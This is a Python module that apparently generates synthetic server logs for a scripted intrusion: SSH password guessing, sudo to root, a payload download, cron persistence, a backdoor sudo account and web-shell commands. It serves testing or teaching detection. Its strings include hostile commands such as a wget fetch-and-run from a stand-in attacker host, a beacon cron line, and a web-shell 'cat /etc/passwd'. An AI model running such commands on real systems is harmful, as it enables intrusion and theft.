"""A scripted intrusion as the log lines that it would leave, among the ordinary lines of a small web server.

Someone guesses ssh passwords from one address, gets in, becomes root, downloads a payload, makes it stay by cron and
by a new account, and comes back through a web shell. Addresses are those reserved for documentation (RFC 5737).
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Final
from urllib.parse import quote

ScriptedLine = tuple[float, str, str]
"""Seconds to wait before the line, the name of its file, the line without its end."""

HOST: Final = "web01"
ATTACKER: Final = "203.0.113.66"
VICTIM: Final = "deploy"
FILES: Final = ("auth.log", "syslog", "audit.log", "access.log")

_GUESSED: Final = (
    ("admin", False),
    ("root", True),
    ("oracle", False),
    ("test", False),
    ("root", True),
    ("ubuntu", False),
    ("postgres", True),
    ("git", False),
    (VICTIM, True),
    ("jenkins", False),
    ("root", True),
    ("ftpuser", False),
    (VICTIM, True),
    ("www-data", True),
    (VICTIM, True),
)
_PAYLOAD: Final = "/tmp/.cache-update"  # noqa: S108  # text of a log line; nothing is written there
_URL: Final = f"http://{ATTACKER}/dl/update.sh"
_BROWSER: Final = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
_PAGES: Final = (
    "/",
    "/products",
    "/products/42",
    "/cart",
    "/static/site.css",
    "/static/logo.svg",
    "/about",
    "/search?q=shoes",
)
_COLLEAGUES: Final = (("ci", "10.20.0.15"), ("anna", "10.20.0.31"), ("marek", "10.20.0.44"))


def intrusion(start: datetime, *, duration_seconds: float = 12.0, seed: int = 7) -> Iterator[ScriptedLine]:
    """The lines in the order of their time; stamps begin at `start` (with a zone) and follow the delays.

    The delays add up to about `duration_seconds`. The same arguments always give the same lines.
    """
    if start.tzinfo is None:
        raise ValueError("the start needs a time zone")
    if duration_seconds <= 0:
        raise ValueError("the duration must be more than zero seconds")
    script = _Script(start.astimezone(UTC), duration_seconds, seed)
    _ordinary(script)
    _guessing(script)
    _entry(script)
    _download(script)
    _persistence(script)
    _new_account(script)
    _web_shell(script)
    last = 0.0
    for offset, _, file, line in sorted(script.lines):
        yield offset - last, file, line
        last = offset


class _Script:
    """Lines with their place in time; `at` is a share of the whole, 0 to 1."""

    def __init__(self, start: datetime, duration: float, seed: int) -> None:
        self.start = start
        self.duration = duration
        self.chance = random.Random(seed)  # noqa: S311  # the same story every time, no secret
        self.lines: list[tuple[float, int, str, str]] = []
        self.serial = 8400
        self.pid = 4200

    def moment(self, at: float) -> datetime:
        return self.start + timedelta(seconds=at * self.duration)

    def next_pid(self) -> int:
        self.pid += self.chance.randint(1, 7)
        return self.pid

    def syslog(self, at: float, file: str, tag: str, message: str) -> None:
        """A line as rsyslog writes it in its traditional format."""
        when = self.moment(at)
        self._add(at, file, f"{when:%b} {when.day:>2} {when:%H:%M:%S} {HOST} {tag}: {message}")

    def audit(self, at: float, *records: tuple[str, str]) -> None:
        """The records of one audit event, which share their stamp and serial number."""
        self.serial += self.chance.randint(1, 4)
        when = self.moment(at)
        stamp = f"{int(when.timestamp())}.{when.microsecond // 1000:03d}:{self.serial}"
        for kind, text in records:
            self._add(at, "audit.log", f"type={kind} msg=audit({stamp}): {text}")

    def access(self, at: float, address: str, request: str, status: int, size: int, agent: str) -> None:
        """A line in Apache's and nginx's combined format."""
        when = self.moment(at)
        self._add(
            at,
            "access.log",
            f'{address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "{request}" {status} {size} "-" "{agent}"',
        )

    def _add(self, at: float, file: str, line: str) -> None:
        self.lines.append((at * self.duration, len(self.lines), file, line))


def _ordinary(script: _Script) -> None:
    chance = script.chance
    for step in range(30):
        page = chance.choice(_PAGES)
        address = f"198.51.100.{chance.randint(2, 250)}"
        script.access(step / 30 + 0.01, address, f"GET {page} HTTP/1.1", 200, chance.randint(400, 24000), _BROWSER)
    for number, (user, address) in enumerate(_COLLEAGUES):
        at = 0.05 + 0.3 * number
        daemon = f"sshd[{script.next_pid()}]"
        key = f"SHA256:{chance.randbytes(24).hex()[:43]}"
        script.syslog(
            at,
            "auth.log",
            daemon,
            f"Accepted publickey for {user} from {address} port {_port(script)} ssh2: ED25519 {key}",
        )
        script.syslog(
            at,
            "auth.log",
            daemon,
            f"pam_unix(sshd:session): session opened for user {user}(uid={1010 + number}) by (uid=0)",
        )
        script.syslog(at, "auth.log", "systemd-logind[701]", f"New session {30 + number} of user {user}.")
        script.syslog(at + 0.2, "auth.log", daemon, f"pam_unix(sshd:session): session closed for user {user}")
    for at, unit in (
        (0.03, "Daily apt download activities"),
        (0.37, "Rotate log files"),
        (0.72, "Clean php session files"),
    ):
        script.syslog(at, "syslog", "systemd[1]", f"Starting {unit}...")
        script.syslog(at + 0.02, "syslog", "systemd[1]", f"Finished {unit}.")
    for at in (0.15, 0.55):
        daemon = f"CRON[{script.next_pid()}]"
        script.syslog(at, "auth.log", daemon, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        script.syslog(at, "syslog", daemon, "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)")
        script.syslog(at + 0.01, "auth.log", daemon, "pam_unix(cron:session): session closed for user root")


def _guessing(script: _Script) -> None:
    for number, (user, exists) in enumerate(_GUESSED):
        at = 0.06 + 0.36 * number / len(_GUESSED)
        daemon, port = f"sshd[{script.next_pid()}]", _port(script)
        source = f"{ATTACKER} port {port}"
        named = user if exists else f"invalid user {user}"
        if not exists:
            script.syslog(at, "auth.log", daemon, f"Invalid user {user} from {source}")
            script.syslog(at, "auth.log", daemon, "pam_unix(sshd:auth): check pass; user unknown")
        who = f"  user={user}" if exists else " "
        script.syslog(at, "auth.log", daemon, _pam_failure(who))
        script.audit(
            at, ("USER_AUTH", _authentication(script, "PAM:authentication", user if exists else "(unknown)", "failed"))
        )
        script.syslog(at + 0.008, "auth.log", daemon, f"Failed password for {named} from {source} ssh2")
        state = "authenticating" if exists else "invalid"
        script.syslog(at + 0.01, "auth.log", daemon, f"Connection closed by {state} user {user} {source} [preauth]")


def _entry(script: _Script) -> None:
    daemon = f"sshd[{script.next_pid()}]"
    script.audit(0.45, ("USER_AUTH", _authentication(script, "PAM:authentication", VICTIM, "success")))
    script.syslog(0.45, "auth.log", daemon, f"Accepted password for {VICTIM} from {ATTACKER} port {_port(script)} ssh2")
    script.syslog(
        0.45, "auth.log", daemon, f"pam_unix(sshd:session): session opened for user {VICTIM}(uid=1001) by (uid=0)"
    )
    script.syslog(0.451, "auth.log", "systemd-logind[701]", f"New session 41 of user {VICTIM}.")
    script.audit(0.452, ("USER_LOGIN", _authentication(script, "login", VICTIM, "success")))
    _sudo(script, 0.50, "/usr/bin/id")
    _sudo(script, 0.53, "/bin/bash")
    opened = f"pam_unix(sudo:session): session opened for user root(uid=0) by {VICTIM}(uid=1001)"
    script.syslog(0.531, "auth.log", "sudo", opened)


def _download(script: _Script) -> None:
    _sudo(script, 0.58, f"/usr/bin/wget -q {_URL} -O {_PAYLOAD}")
    _execution(script, 0.581, "/usr/bin/wget", "wget", "-q", _URL, "-O", _PAYLOAD)
    script.audit(0.585, ("PATH", _created(_PAYLOAD)))
    _execution(script, 0.60, "/usr/bin/chmod", "chmod", "+x", _PAYLOAD)
    _execution(script, 0.62, _PAYLOAD, _PAYLOAD)


def _persistence(script: _Script) -> None:
    _execution(script, 0.66, "/usr/bin/crontab", "crontab", "-")
    script.syslog(0.661, "syslog", f"crontab[{script.next_pid()}]", "(root) REPLACE (root)")
    script.audit(0.68, ("PATH", _created("/etc/cron.d/cache-update")))
    script.syslog(0.69, "syslog", "cron[811]", "(*system*cache-update) RELOAD (/etc/cron.d/cache-update)")
    script.syslog(
        0.71, "syslog", f"CRON[{script.next_pid()}]", f"(root) CMD ({_PAYLOAD} --beacon {_URL} >/dev/null 2>&1)"
    )


def _new_account(script: _Script) -> None:
    _execution(script, 0.76, "/usr/sbin/useradd", "useradd", "-m", "-s", "/bin/bash", "backup2")
    adding = f"useradd[{script.next_pid()}]"
    script.syslog(0.761, "auth.log", adding, "new group: name=backup2, GID=1002")
    script.syslog(
        0.761,
        "auth.log",
        adding,
        "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0",
    )
    script.audit(0.762, ("ADD_USER", _management("add-user", "backup2", "/usr/sbin/useradd")))
    _execution(script, 0.79, "/usr/sbin/usermod", "usermod", "-aG", "sudo", "backup2")
    changing = f"usermod[{script.next_pid()}]"
    script.syslog(0.791, "auth.log", changing, "add 'backup2' to group 'sudo'")
    script.syslog(0.791, "auth.log", changing, "add 'backup2' to shadow group 'sudo'")
    script.syslog(
        0.81, "auth.log", f"passwd[{script.next_pid()}]", "pam_unix(passwd:chauthtok): password changed for backup2"
    )


def _web_shell(script: _Script) -> None:
    agent = "curl/8.5.0"
    script.access(0.84, ATTACKER, "POST /uploads/upload.php HTTP/1.1", 200, 187, agent)
    for number, command in enumerate(("id", "uname -a", "cat /etc/passwd")):
        at = 0.87 + 0.03 * number
        script.access(
            at, ATTACKER, f"GET /uploads/img_0917.php?cmd={quote(command)} HTTP/1.1", 200, 54 + 900 * number, agent
        )
        _execution(script, at, "/usr/bin/dash", "sh", "-c", command, user=("www-data", 33))


def _sudo(script: _Script, at: float, command: str) -> None:
    script.syslog(
        at, "auth.log", "sudo", f"  {VICTIM} : TTY=pts/0 ; PWD=/home/{VICTIM} ; USER=root ; COMMAND={command}"
    )


def _execution(script: _Script, at: float, image: str, *arguments: str, user: tuple[str, int] = ("root", 0)) -> None:
    """The records that auditd writes for one execve, in its enriched format."""
    name, uid = user
    login, login_name, terminal = (4294967295, "unset", "(none)") if uid else (1001, VICTIM, "pts0")
    pid = script.next_pid()
    comm = image.rpartition("/")[2][:15]
    ids = " ".join(f"{key}={uid}" for key in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
    names = " ".join(f'{key}="{name}"' for key in ("UID", "GID", "EUID"))
    call = (
        f"arch=c000003e syscall=59 success=yes exit=0 a0=55d1c8a0 a1=55d1c8b8 a2=55d1c8d0 a3=8 items=2 ppid={pid - 1} "
        f'pid={pid} auid={login} {ids} tty={terminal} ses=41 comm="{comm}" exe="{image}" subj=unconfined key="exec"'
        f'\x1dARCH=x86_64 SYSCALL=execve AUID="{login_name}" {names}'
    )
    argv = " ".join(f"a{place}={_encoded(argument)}" for place, argument in enumerate(arguments))
    title = "\x00".join(arguments).encode().hex().upper()
    script.audit(
        at, ("SYSCALL", call), ("EXECVE", f"argc={len(arguments)} {argv}"), ("PROCTITLE", f"proctitle={title}")
    )


def _encoded(argument: str) -> str:
    """An argument as the kernel writes it: in quotes, or in hex when it holds a space or a quote."""
    if any(character <= " " or character == '"' for character in argument):
        return argument.encode().hex().upper()
    return f'"{argument}"'


def _created(path: str) -> str:
    return (
        f'item=1 name="{path}" inode=918273 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE '
        'cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID="root" OGID="root"'
    )


def _pam_failure(who: str) -> str:
    return f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER}{who}"


def _authentication(script: _Script, operation: str, account: str, result: str) -> str:
    ids = f"pid={script.pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined"
    where = f"hostname={ATTACKER} addr={ATTACKER} terminal=ssh"
    message = f'op={operation} acct="{account}" exe="/usr/sbin/sshd" {where} res={result}'
    return f'{ids} msg=\'{message}\'\x1dUID="root" AUID="unset"'


def _management(operation: str, account: str, image: str) -> str:
    return (
        f'pid=5190 uid=0 auid=1001 ses=41 subj=unconfined msg=\'op={operation} acct="{account}" exe="{image}" '
        f'hostname={HOST} addr=? terminal=pts/0 res=success\'\x1dUID="root" AUID="{VICTIM}"'
    )


def _port(script: _Script) -> int:
    return script.chance.randint(32768, 60999)
